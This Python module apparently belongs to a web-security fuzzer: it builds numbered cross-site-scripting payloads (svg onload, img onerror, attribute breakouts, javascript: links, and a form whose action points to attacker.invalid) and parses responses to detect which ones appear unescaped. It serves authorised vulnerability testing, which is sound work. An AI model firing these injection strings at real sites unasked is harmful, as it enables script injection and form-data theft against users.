"""Markup payloads that carry a number, and the search for them in pages.

Every payload the fuzzer sends names its submission: `"><svg onload=alert(17)>` was sent by
submission 17. When the markup turns up unescaped on any page — the answer, the page a redirect leads
to, or a page read later (stored input) — its number leads back to the request that put it there.
"""

import re
from html.parser import HTMLParser

# Each template holds {id}. The first breaks out of every context at once (text, attribute values
# in either quotes, textarea, title) and is sent most; the others try what a sanitiser might let
# through (an attribute without tags, script addresses in links and Markdown) or fit short fields.
PAYLOADS = [
    "\"'></textarea></title><svg onload=alert({id})><form action=https://attacker.invalid/{id}><img src=x onerror=alert({id})>",
    '"><svg onload=alert({id})>',
    "'\" onmouseover=alert({id}) x=\"",
    "javascript:alert({id})",
    "[Klick](javascript:alert({id}))",
    "<a href=\"javascript:alert({id})\">Link</a>",
]

# Raw text that escaping would have changed: found anywhere, it is markup the server did not escape.
_RAW = [
    re.compile(r"<svg onload=alert\((\d+)\)"),
    re.compile(r"<form action=https://attacker\.invalid/(\d+)"),
    re.compile(r"<img src=x onerror=alert\((\d+)\)"),
]
_CALL = re.compile(r"alert\((\d+)\)")
_ADDRESS_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href"}


class _AttributeScanner(HTMLParser):
    """Finds payload numbers in event handler attributes and in `javascript:` addresses."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = {}

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if not value:
                continue
            if name.startswith("on"):
                calls = _CALL.findall(value)
            elif name in _ADDRESS_ATTRIBUTES:
                # Browsers drop whitespace and control characters before the scheme.
                address = re.sub(r"[\x00-\x20]", "", value).lower()
                calls = _CALL.findall(address) if address.startswith("javascript:") else []
            else:
                calls = []
            for number in calls:
                self.found.setdefault(int(number), (self.get_starttag_text() or "")[:160])

    handle_startendtag = handle_starttag


def injected_ids(html):
    """{number: the markup around it} of the payloads that appear in `html` as live markup."""
    found = {}
    for pattern in _RAW:
        for match in pattern.finditer(html):
            found.setdefault(int(match.group(1)), html[max(0, match.start() - 80):match.end() + 20])
    scanner = _AttributeScanner()
    scanner.feed(html)
    scanner.close()
    return {**scanner.found, **found}


def is_html(response):
    """Only pages a browser renders as HTML can run markup (answers carry nosniff)."""
    kind = response.headers.get("Content-Type", "")
    return not kind or "html" in kind.lower()
